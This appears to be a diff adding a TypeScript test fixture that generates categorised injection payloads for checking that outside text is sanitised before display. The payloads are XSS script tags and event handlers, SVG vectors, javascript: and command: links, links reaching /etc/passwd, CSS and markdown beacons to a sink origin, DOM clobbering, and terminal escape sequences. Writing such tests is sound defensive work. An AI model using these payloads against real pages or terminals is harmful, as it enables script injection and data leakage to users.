@@ -1,0 +1,111 @@
+/** A text that tries something, by the class of what it tries. `sink` is the origin that must hear nothing. */
+type Payloads = (sink: string) => Readonly<Record<string, readonly string[]>>;
+
+const ESC = '\u001b';
+const BEL = '\u0007';
+
+/** What model names, errors and whatever else comes from outside may hold. `pwned()` is what a script that ran would call. */
+export const payloadsFor: Payloads = (sink) => ({
+  'script tags': [
+    '<script>pwned()</script>',
+    `<script src="${sink}/script.js"></script>`,
+    `</script><script type="module">import "${sink}/module.js"</script>`,
+    '<ScRiPt >pwned()</sCrIpT>',
+    '</title></textarea></style></noscript></template><script>pwned()</script>',
+    '--><script>pwned()</script><!--',
+    ']]><script>pwned()</script>',
+  ],
+  'event handlers': [
+    '<img src=x onerror=pwned()>',
+    `<img src="${sink}/img.png" onload=pwned()>`,
+    '"><img src=x onerror="pwned()">',
+    "' onmouseover='pwned()' autofocus onfocus='pwned()' x='",
+    '<input autofocus onfocus=pwned()>',
+    '<details open ontoggle=pwned()>x</details>',
+    '<video><source onerror=pwned()></video>',
+    '<body onload=pwned() onpageshow=pwned()>',
+    '<div style="animation: a 1s" onanimationstart=pwned()>x</div>',
+    '<dialog open onbeforetoggle=pwned()>x</dialog>',
+  ],
+  svg: [
+    '<svg onload=pwned()></svg>',
+    '<svg><script>pwned()</script></svg>',
+    `<svg><image href="${sink}/svg.png" /></svg>`,
+    `<svg><use href="${sink}/use.svg#x" /></svg>`,
+    '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
+    '<svg><a href="javascript:pwned()"><text y=20>x</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
+  ],
+  links: [
+    'javascript:pwned()',
+    '<a href="javascript:pwned()">x</a>',
+    '<a href="java\nscript:pwned()">x</a>',
+    '<a href="data:text/html,<script>pwned()</script>">x</a>',
+    '<a href="vbscript:pwned()">x</a>',
+    '<a href="command:workbench.action.terminal.new">x</a>',
+    '[run](command:workbench.action.files.openFile?%5B%22%2Fetc%2Fpasswd%22%5D)',
+    '<a href="vscode://attacker.extension/run?x=1">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    `<a href="${sink}/ping-page" ping="${sink}/ping">x</a>`,
+  ],
+  markdown: [
+    `![x](${sink}/markdown.png)`,
+    `[x]: ${sink}/reference.png\n![y][x]`,
+    `<${sink}/auto>`,
+    '[x](javascript:pwned())',
+    '$(sync~spin) ${{x}} {{constructor.constructor("pwned()")()}} `${pwned()}`',
+  ],
+  styles: [
+    `<style>@import "${sink}/import.css"; * { background: url(${sink}/background.png) }</style>`,
+    `<div style="background-image: url(${sink}/style.png)">x</div>`,
+    '<div style="width: expression(pwned())">x</div>',
+    `<link rel="stylesheet" href="${sink}/link.css">`,
+    `<style>@font-face { font-family: f; src: url(${sink}/font.woff) } p { font-family: f }</style><p>x</p>`,
+  ],
+  frames: [
+    `<iframe src="${sink}/frame"></iframe>`,
+    '<iframe src="javascript:parent.pwned()"></iframe>',
+    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
+    `<object data="${sink}/object"></object>`,
+    `<embed src="${sink}/embed">`,
+    `<portal src="${sink}/portal"></portal>`,
+    `<frameset><frame src="${sink}/frameset"></frameset>`,
+  ],
+  forms: [
+    `<form action="${sink}/form" method=post><input name=a value=b><button autofocus>x</button></form>`,
+    `<button formaction="${sink}/button">x</button>`,
+    '<form action="javascript:pwned()"><input type=submit></form>',
+    `<isindex action="${sink}/isindex">`,
+  ],
+  'page settings': [
+    `<base href="${sink}/">`,
+    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
+    `<link rel="prefetch" href="${sink}/prefetch">`,
+    `<link rel="preload" as="image" href="${sink}/preload.png">`,
+    `<link rel="manifest" href="${sink}/manifest.json">`,
+    `<link rel="icon" href="${sink}/icon.png">`,
+    `<audio src="${sink}/audio" autoplay></audio><video poster="${sink}/poster.png"></video>`,
+    `<track src="${sink}/track">`,
+  ],
+  navigation: [
+    `<meta http-equiv="refresh" content="0; url=${sink}/refresh">`,
+    '<meta http-equiv="refresh" content="0; url=data:text/html,x">',
+  ],
+  'comments and clobbering': [
+    '<!--',
+    '<![CDATA[',
+    '<plaintext>',
+    '<a id=acquireVsCodeApi></a><form id=app><input name=innerHTML></form>',
+    '__proto__',
+    'constructor',
+  ],
+  controls: [
+    `${ESC}]0;pwned${BEL}${ESC}[2J${ESC}[31mred`,
+    `${ESC}]8;;${sink}/osc8${ESC}\\link${ESC}]8;;${ESC}\\`,
+    `${ESC}]52;c;cHduZWQ=${BEL}`,
+    '\u009b31m\u0090q\u009c',
+    'line one\r\nAlert (critical): line two\nx-injected: 1\r\u0085\u2028\u2029end',
+    '\u202eevil\u202c \u2066isolated\u2069 \u200f\u061c\u200b\ufeff',
+    'nul\u0000bs\b\b\bdel\u007f',
+  ],
+});
